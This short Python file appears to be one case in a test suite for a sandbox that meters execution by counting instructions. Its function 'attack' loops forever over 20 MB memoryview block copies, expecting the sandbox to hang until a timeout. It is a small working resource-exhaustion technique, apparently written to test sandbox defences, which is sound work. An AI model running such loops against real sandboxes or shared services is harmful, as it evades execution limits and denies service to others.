"""Spend the time in block copies, which an instruction counter may count as one instruction.

Evidence: hang
Sandbox: timeout
"""


def attack(target):
    here, there = bytearray(20_000_000), bytearray(20_000_000)
    view = memoryview(here)
    while True:
        view[:] = there
        view[1:] = view[:-1]
